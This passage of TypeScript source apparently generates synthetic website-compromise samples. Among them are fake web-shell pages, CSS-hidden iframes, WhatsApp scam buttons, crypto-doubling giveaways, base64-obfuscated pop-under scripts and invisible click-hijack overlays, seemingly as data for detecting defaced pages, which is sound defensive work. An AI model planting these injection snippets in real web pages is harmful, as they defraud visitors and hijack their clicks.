  const path = pick(rng, ["/var/www/html", `/home/${page.site.brand}/public_html`, "/usr/share/nginx/html", `/var/www/${page.site.host}/htdocs`])
  const uname = `Linux ${pick(rng, ["web01", "srv", page.site.brand, "host" + digits(rng, 3)])} ${pick(rng, ["4.15.0-213-generic", "5.4.0-150-generic", "3.10.0-1160.el7.x86_64", "5.15.0-91-generic"])} x86_64`
  const login = `<form method="post"><input type="password" name="${pick(rng, ["pass", "password", "p"])}"><input type="submit" value="${pick(rng, [">>", "Login", "Go"])}"></form>`
  const files = ["index.php", "wp-config.php", ".htaccess", "wp-admin", "wp-content", "uploads", "config.inc.php", "robots.txt"]
  const manager = `<pre>Uname: ${uname}\nUser: ${pick(rng, ["www-data", "apache", "nobody", page.site.brand])} (${between(rng, 33, 1500)})\nPHP: ${pick(rng, ["7.4.33", "8.1.27", "5.6.40"])}  Safe mode: OFF\nCwd: ${path}</pre><table><tr><th>Name</th><th>Size</th><th>Perms</th><th>Actions</th></tr>${sample(rng, files, between(rng, 4, 8)).map((f) => `<tr><td><a href="?p=${encodeURIComponent(path)}&amp;a=view&amp;f=${f}">${f}</a></td><td>${between(rng, 1, 90)} KB</td><td>${pick(rng, ["-rw-r--r--", "drwxr-xr-x", "-rwxrwxrwx"])}</td><td><a href="?a=edit&amp;f=${f}">Edit</a> <a href="?a=del&amp;f=${f}">Delete</a></td></tr>`).join("")}</table><form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="Upload"></form>`
  const html = `<html><head><title>${esc(name)}</title>${chance(rng, 0.5) ? `<style>body{background:#000;color:#0f0;font-family:monospace}</style>` : ""}</head><body>${pick(rng, [login, manager, `<h1>${esc(name)}</h1>${manager}`])}</body></html>`
  return { html }
}, true)

// Iframe-injection clean-ups where the iframe is hidden by a class (injected in a style block, or a framework's own hiding class) rather than inline attributes.
const classHiddenIframe = fresh("iframe hidden by a CSS class", (page, rng) => {
  const src = `https://${randomDomain(rng)}/${pick(rng, ["", "in.php?id=" + alnum(rng, 5), "tds/" + alnum(rng, 6), "frame.html"])}`
  const own = pick(rng, ["wp-embed-helper", "clearfix-x", "ga-holder", `c${alnum(rng, 6)}`, "fb-root-2", "sr-frame"])
  const framework = pick(rng, ["sr-only", "visually-hidden", "d-none", "hidden", "screen-reader-text"])
  const rule = pick(rng, [
    "position:absolute;left:-9999px;top:0;width:1px;height:1px;overflow:hidden",
    "display:none",
    "visibility:hidden;position:absolute",
    "width:0;height:0;overflow:hidden;opacity:0",
    "clip:rect(0 0 0 0);position:absolute"
  ])
  const useOwn = chance(rng, 0.6)
  const cls = useOwn ? own : framework
  const iframe = `<iframe src="${src}" width="${pick(rng, ["300", "468", "1"])}" height="${pick(rng, ["250", "60", "1"])}" frameborder="0"></iframe>`
  const el = chance(rng, 0.5) ? `<div class="${cls}">${iframe}</div>` : iframe.replace("<iframe ", `<iframe class="${cls}" `)
  const out: Array<Splice> = [insert(pick(rng, [bottom(page), top(page), anySlot(rng, page.spots)]), el)]
  if (useOwn) out.push(insert(chance(rng, 0.7) ? head(page) : top(page), style(rng, `.${cls}{${rule}}`)))
  return { splices: out }
})

let corpusCache: ReturnType<typeof loadCorpus> | null = null

// DNS-hijacking reports (e.g. the 2019 Sea Turtle and DNSpionage campaigns, hijacked registrar accounts): the site's name now reaches another server, which serves some other site's page.
const otherSite = fresh("another site's page served at this address (DNS hijack)", (page, rng) => {
  corpusCache ??= loadCorpus()
  const n = corpusCache.length
  const other = corpusCache[(page.index + 1 + int(rng, n - 1)) % n]!
  return { html: other.html }
}, true)

// Scam injections on hacked business sites: a floating WhatsApp or Telegram "chat with us" button leading to the scammers' number (fake support, investment and job scams).
const chatScamButton = fresh("floating WhatsApp or Telegram button to a new number", (page, rng) => {
  const cc = page.site.locale.phones[0]!.cc
  const number = pick(rng, [`${cc}${digits(rng, 9 + int(rng, 2))}`, `${pick(rng, ["44", "1", "62", "234", "91", "234", "855"])}${digits(rng, 10)}`])
  const text = siteOr(rng, page, {
    en: pick(rng, ["Need help? Chat with us on WhatsApp", "Customer support 24/7", "Claim your refund on WhatsApp", "Earn from home — message us"]),
    fr: pick(rng, ["Besoin d'aide ? Écrivez-nous sur WhatsApp", "Service client 24h/24"]),
    de: pick(rng, ["Fragen? Schreiben Sie uns auf WhatsApp", "Kundenservice rund um die Uhr"]),
    es: pick(rng, ["¿Necesita ayuda? Escríbanos por WhatsApp", "Atención al cliente 24/7"]),
    nl: pick(rng, ["Hulp nodig? Chat met ons via WhatsApp", "Klantenservice 24/7"]),
    pt: pick(rng, ["Precisa de ajuda? Fale conosco no WhatsApp", "Atendimento 24 horas"]),
    it: pick(rng, ["Serve aiuto? Scrivici su WhatsApp", "Assistenza clienti 24/7"])
  })
  const href = pick(rng, [
    `https://wa.me/${number}?text=${encodeURIComponent(text)}`,
    `https://api.whatsapp.com/send?phone=${number}`,
    `https://t.me/${pick(rng, ["support", "help", "official", "care"])}_${page.site.brand.replace(/-/g, "")}${digits(rng, 2)}`
  ])
  const shownNumber = chance(rng, 0.5) ? ` <span>+${number}</span>` : ""
  const side = pick(rng, ["right", "left"])
  const btn = `<a href="${esc(href)}" target="_blank" class="${pick(rng, ["wa-float", "whatsapp-button", "chat-now", "float-contact"])}" style="position:fixed;bottom:${between(rng, 10, 40)}px;${side}:${between(rng, 10, 40)}px;background:${pick(rng, ["#25d366", "#229ed9", "#0b8043"])};color:#fff;border-radius:30px;padding:12px 18px;z-index:${between(rng, 999, 99999)}">💬 ${esc(text)}${shownNumber}</a>`
  return splices(insert(pick(rng, [bottom(page), bottom(page), top(page)]), btn))
})

// Crypto-giveaway scam reports (FTC warnings, the July 2020 Twitter account hijack): "send 0.1 BTC, get 0.2 back", with a wallet and a countdown.
const cryptoGiveaway = fresh("crypto giveaway ('send 1, get 2 back')", (page, rng) => {
  const w = makeWallet(rng, pick(rng, ["BTC", "ETH", "USDT (TRC20)"] as const))
  const min = pick(rng, w.coin === "BTC" ? ["0.01", "0.05", "0.1"] : w.coin === "ETH" ? ["0.1", "0.5", "1"] : ["100", "500", "1000"])
  const who = pick(rng, [page.site.brand.toUpperCase(), "Elon Musk", "Binance", "Vitalik Buterin", "MicroStrategy", "Ripple"])
  const total = between(rng, 1000, 10000)
  const box = `<div class="${pick(rng, ["giveaway", "promo-crypto", "event-2026"])}" style="border:2px solid #f7931a;padding:16px;margin:10px 0;text-align:center"><h2>${esc(who)} ${pick(rng, ["official", "x", "×"])} ${pick(rng, [w.coin, "crypto"])} ${pick(rng, ["GIVEAWAY", "Giveaway", "airdrop event"])}: ${total.toLocaleString("en-US")} ${w.coin.split(" ")[0]}</h2><p>${pick(rng, [`Send from ${min} to ${Number(min) * 10} ${w.coin} to the address below and get 2x back instantly!`, `To participate, send any amount (minimum ${min} ${w.coin}) and receive double back to the sending address.`, `We double every transfer: send ${min}+ ${w.coin}, receive 2x within 10 minutes.`])}</p><p><code>${w.address}</code></p>${chance(rng, 0.5) ? `<img src="https://${pick(rng, ["api.qrserver.com/v1/create-qr-code/?size=180x180&amp;data=", `${randomDomain(rng)}/qr?d=`])}${w.address}" alt="QR">` : ""}<p>${pick(rng, ["Ends in 00:47:12", `${between(rng, 40, 95)}% already distributed`, "Only the first 500 transactions count"])}</p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), box))
})

// Malvertising injections on hacked sites (pop-under scripts): the first click anywhere opens an ad or scam page in a new window.
const popunder = fresh("pop-under opened on the first click", (page, rng) => {
  const url = jsUrl(rng, `https://${randomDomain(rng)}/${pick(rng, ["", "?z=" + digits(rng, 7), "afu.php?zoneid=" + digits(rng, 7), "go/" + alnum(rng, 6)])}`)
  const open = pick(rng, [`window.open(${url},"_blank")`, `var w=window.open(${url});w&&w.blur();window.focus()`, `window.open(${url},"_blank","width=${between(rng, 800, 1400)},height=${between(rng, 600, 900)}")`])
  const code = pick(rng, [
    `document.addEventListener("click",function f(){${open};document.removeEventListener("click",f)});`,
    `document.addEventListener("mousedown",function(){if(!sessionStorage.pu){sessionStorage.pu=1;${open}}});`,
    `window.addEventListener("click",function(){if(document.cookie.indexOf("_pu=")<0){document.cookie="_pu=1;max-age=${pick(rng, ["3600", "86400", "43200"])};path=/";${open}}},{once:true});`
  ])
  const tag = chance(rng, 0.35)
    ? `<script data-cfasync="false" src="https://${randomDomain(rng)}/${pick(rng, ["pu.js", "tag.min.js", alnum(rng, 6) + ".js"])}" data-zone="${digits(rng, 7)}"></script>`
    : `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`
  return splices(insert(pick(rng, [head(page), bottom(page), top(page), slotAt(page.spots, "middle")]), tag))
})

// Click-hijacking write-ups: a transparent link stretched over the whole page, so any click lands on the attacker's page.
const clickOverlay = fresh("invisible link covering the page (click hijack)", (page, rng) => {
  const url = `https://${randomDomain(rng)}/${pick(rng, ["", "?s=" + alnum(rng, 6), "click/" + alnum(rng, 6)])}`
  const box = pick(rng, ["position:fixed;inset:0", "position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute;top:0;left:0;width:100%;height:10000px", "position:fixed;top:0;right:0;bottom:0;left:0"])
  const clear = pick(rng, ["opacity:0", "background:transparent", "opacity:0.01", "background:rgba(0,0,0,0)"])
  const z = pick(rng, ["2147483647", "99999", "100000"])
  const cls = `${pick(rng, ["o", "lnk", "x", "full"])}${alnum(rng, 4)}`
  const el = chance(rng, 0.6)
    ? `<a href="${url}" target="_blank" rel="${pick(rng, ["nofollow", "noopener", "noreferrer"])}" style="${box};${clear};z-index:${z};display:block"></a>`
    : `${style(rng, `.${cls}{${box};${clear};z-index:${z};display:block}`)}<a class="${cls}" href="${url}" target="_blank"></a>`
  return splices(insert(pick(rng, [bottom(page), top(page)]), el))
})

/** Every fresh defacement class, in a fixed order. */
export const freshDefacements: ReadonlyArray<ChangeClass> = [
  movedNotice, fakeTicker, downloadSwap, redirectorWrap, donationAppeal, accountSuspended, parkedDomain, emojiSlogan,
  serverDefault, altDefaced, svgBanner, videoSwap, browserInBrowser, analyticsSkimmer, pushServiceWorker,
  eventHandlerRedirect, webShell, classHiddenIframe, otherSite, chatScamButton, cryptoGiveaway, popunder, clickOverlay
]
